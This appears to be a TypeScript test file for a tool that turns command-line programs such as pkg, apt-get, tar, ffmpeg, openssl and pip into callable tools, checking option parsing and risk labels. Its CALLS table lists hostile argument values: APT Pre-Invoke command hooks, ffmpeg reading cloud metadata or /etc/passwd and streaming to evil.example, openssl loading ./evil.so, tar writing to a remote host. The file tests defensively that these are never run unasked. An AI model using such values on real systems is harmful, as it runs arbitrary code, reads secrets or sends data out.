// Options that take a value which their page does not write, and values with which well-known commands run programs or reach elsewhere.
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type CliImport, importCli } from '../../src/import/command-line/import-cli.ts';
import { importBoard, type ImportedBoard, type RootedCall } from './import-board.test-helper.ts';
import { findProgram } from '../../scripts/test-set-up/parts.ts';

/** Imports a command that says this for --help, with this manual page. */
async function importTexts(command: string, help: string, manual = '', section = '8'): Promise<CliImport> {
  const folder = mkdtempSync(join(tmpdir(), 'pegboard-man-'));
  try {
    mkdirSync(join(folder, `man${section[0]}`));
    writeFileSync(join(folder, `man${section[0]}`, `${command.replaceAll(' ', '-')}.${section}`), manual);
    const answer = { stdout: help, stderr: '', code: 0 };
    return await importCli(command.split(' '), () => Promise.resolve(answer), { manual: [folder] });
  } finally {
    rmSync(folder, { recursive: true });
  }
}

function argumentsOf({ tools }: CliImport, name: string): Map<string, Record<string, unknown>> {
  const args = tools.find((tool) => tool.name === name)?.args ?? [];
  return new Map(args.map((arg) => [arg.name, { ...arg }]));
}

const HELP = `pkg 2.6 (amd64)
Usage: pkg [options] command
       pkg [options] install|remove pkg1 [pkg2 ...]

Most used commands:
  update - Retrieve new lists of packages
  install - Install new packages
  autoremove - Remove automatically all unused packages
  dselect-upgrade - Follow dselect selections
  build-dep - Configure build-dependencies for source packages
  satisfy - Satisfy dependency strings
`;

const MANUAL = String.raw`.TH PKG 8
.SH NAME
pkg \- handles packages
.SH SYNOPSIS
.B pkg
[\fB\-asqd\fR] [\fB\-o\fR=\fIconfig_string\fR] [\fB\-a\fR=\fIarchitecture\fR] \fIcommand\fR
.SH OPTIONS
.TP
\fB\-d\fR, \fB\-\-download\-only\fR
Download only; package files are only retrieved, not unpacked or installed.
.TP
\fB\-a\fR, \fB\-\-host\-architecture\fR
This option controls the architecture packages are built for.
.TP
\fB\-P\fR, \fB\-\-build\-profiles\fR
This option controls the activated build profiles.
.TP
\fB\-p\fR, \fB\-\-pkg\-cache\fR
Select the file to store the package cache.
.TP
\fB\-c\fR, \fB\-\-config\-file\fR
Configuration File; Specify a configuration file to use.
.TP
\fB\-o\fR, \fB\-\-option\fR
Set a Configuration Option; This will set an arbitrary configuration option. The syntax is \fB\-o Foo::Bar=bar\fR.
`;

describe('a manual page that leaves out the values of options', () => {
  let imported: CliImport;
  beforeAll(async () => {
    imported = await importTexts('pkg', HELP, MANUAL);
  });

  it('takes the values that the synopsis tells of', () => {
    const args = argumentsOf(imported, 'pkg_update');
    expect(args.get('host_architecture')).not.toHaveProperty('type');
    expect(args.get('option')).toMatchObject({ name: 'option', risk: 'destructive' });
    expect(args.get('option')).not.toHaveProperty('type');
  });

  it('keeps switches, and leaves out and names options that may take the next word', () => {
    const args = argumentsOf(imported, 'pkg_update');
    expect(args.get('download_only')).toMatchObject({ type: 'boolean' });
    expect(['build_profiles', 'pkg_cache', 'config_file'].filter((name) => args.has(name))).toEqual([]);
    expect(imported.notes.join('\n')).toMatch(/next word of a call could become it: --build-profiles of pkg_\w+/);
  });

  it('asks for each command that installs or removes packages', () => {
    expect(Object.fromEntries(imported.tools.map(({ name, risk }) => [name, risk ?? 'write']))).toEqual({
      pkg_update: 'write',
      pkg_install: 'destructive',
      pkg_autoremove: 'destructive',
      'pkg_dselect-upgrade': 'destructive',
      'pkg_build-dep': 'destructive',
      pkg_satisfy: 'destructive',
    });
  });
});

it('leaves out a flag alone that would take the word behind it as its value', async () => {
  const help = 'Usage: show [OPTIONS] FILE\n\nOptions:\n  --sort [KEY]  Sort the rows\n  --all         All rows\n';
  const names = [...argumentsOf(await importTexts('show', help), 'show').keys()];
  expect(names.toSorted()).toEqual(['all', 'file', 'sort_key']);
});

it('gives a letter the value of the word that it begins', async () => {
  const manual = `.TH NET 8
.SH NAME
net \\- networks
.SH SYNOPSIS
net [ OPTIONS ] OBJECT
.SH OPTIONS
.TP
.B \\-n, \\-netns <NAME>
switches to a namespace
.TP
.B \\-s, \\-stats, \\-statistics
Output more information
`;
  const args = argumentsOf(await importTexts('net', 'Usage: net [ OPTIONS ] OBJECT\n', manual), 'net');
  expect(args.get('netns')).toMatchObject({ flag: '-netns' });
  expect(args.get('netns')).not.toHaveProperty('type');
  expect(args.get('statistics')).toMatchObject({ flag: '-statistics', type: 'boolean' });
  expect([...args.keys()]).not.toContain('n');
});

it('reads the options and words that a usage defines below its forms', async () => {
  const help = `Usage: net [ OPTIONS ] OBJECT { COMMAND | help }
       net [ -force ] -batch filename
where  OBJECT := { address | link |
                   route }
       OPTIONS := { -V[ersion] | -s[tatistics] | -iec |
                    -f[amily] { inet | inet6 } | -4 |
                    -rc[vbuf] [size] | -n[etns] name }
`;
  const args = argumentsOf(await importTexts('net', help), 'net');
  const flags = [...args.values()].flatMap(({ flag, type }) =>
    typeof flag === 'string' ? [[flag, type ?? 'text']] : [],
  );
  expect(Object.fromEntries(flags)).toMatchObject({
    '-statistics': 'boolean',
    '-iec': 'boolean',
    '-family': 'text',
    '-4': 'boolean',
    '-rcvbuf': 'text',
    '-netns': 'text',
  });
  expect(args.get('family')).toMatchObject({ enum: ['inet', 'inet6'] });
  expect([...args.values()].some(({ enum: words }) => Array.isArray(words) && words.includes('route'))).toBe(true);
});

it('finds a manual page whose section has a name of its own', async () => {
  const manual = '.TH OPENTOOL-X509 1ssl\n.SH NAME\nopentool\\-x509 \\- Certificate display command\n';
  const { tools } = await importTexts('opentool x509', 'Usage: opentool x509 [options]\n', manual, '1ool');
  expect(tools[0]?.description).toContain('Certificate display command');
});

/** Calls that must not run unasked, by the program. */
const CALLS: Readonly<Record<string, readonly RootedCall[]>> = {
  'apt-get': [
    ['apt-get_update', { option: 'APT::Update::Pre-Invoke::=touch x' }],
    ['apt-get_update', { config_file: 'evil.conf' }],
    ['apt-get_source', { pkg: ['hello'], compile: true }],
    ['apt-get_autoremove', {}],
    ['apt-get_build-dep', { pkg: ['hello'] }],
    ['apt-get_satisfy', { pkg: ['hello'] }],
    ['apt-get_dselect-upgrade', {}],
  ],
  apt: [
    ['apt_list', { o: 'APT::Update::Pre-Invoke::=touch x' }],
    ['apt_list', { c: 'evil.conf' }],
  ],
  'apt-cache': [['apt-cache_show', { pkg: ['hello'], option: 'Dir::Bin::dpkg=evil' }]],
  tar: [
    ['tar', { create: true, file: 'evil.example:/x', files: ['src'] }],
    ['tar', { create: true, file: 'x.tar', files_from: 'names' }],
  ],
  ffmpeg: [
    ['ffmpeg', { input: ['http://169.254.169.254/'], outfile: ['x.mp4'] }],
    ['ffmpeg', { input: ['in.mp4'], outfile: ['tcp://evil.example:1'] }],
    ['ffmpeg', { input: ['in.mp4'], outfile: ['x.mp4'], filter_complex: 'movie=/etc/passwd' }],
  ],
  openssl: [
    ['openssl_s_client', { connect: 'evil.example:443' }],
    ['openssl_s_server', {}],
    ['openssl_x509', { in: 'a.pem', engine: './evil.so' }],
    ['openssl_version', { provider_path: '.' }],
  ],
  gpg: [['gpg', { command: 'x' }]],
  ip: [['ip', {}]],
  mount: [['mount', {}]],
  sort: [['sort', { files0_from: 'names' }]],
  journalctl: [['journalctl', { vacuum_time: '1s' }]],
  pip: [
    ['pip_list', { python: './evil' }],
    ['pip_download', { requirement_specifier: 'evil' }],
    ['pip_wheel', { requirement: ['evil.txt'] }],
  ],
};

describe.each(Object.entries(CALLS).filter(([program]) => findProgram(program) !== undefined))(
  'import of %s',
  (program, calls) => {
    let imported: ImportedBoard;
    beforeAll(async () => {
      imported = await importBoard([program]);
    });
    afterAll(() => imported.close());

    it('runs no program and reaches nothing elsewhere unasked', async () => {
      const has = ([tool, input]: RootedCall): boolean => {
        const schema = imported.board.registry.get(tool)?.schema;
        const names = imported.tools.find(({ name }) => name === tool)?.args?.map(({ name }) => name) ?? [];
        return schema !== undefined && Object.keys(input).every((name) => names.includes(name));
      };
      // Without a manual page there is no argument.
      expect(await imported.unasked(calls.filter(has))).toEqual([]);
    });
  },
);

describe.runIf(findProgram('apt-get') !== undefined)('import of apt-get', () => {
  it('has no switch that takes the next word', async () => {
    const imported = await importBoard(['apt-get'], { only: ['update'] });
    try {
      const input = { option: true, pkg: ['APT::Update::Pre-Invoke::=touch x'] };
      const result = await imported.board.call('apt-get_update', input);
      expect(result.ok ? '' : result.error.code).toBe('invalid_arguments');
    } finally {
      await imported.close();
    }
  });
});
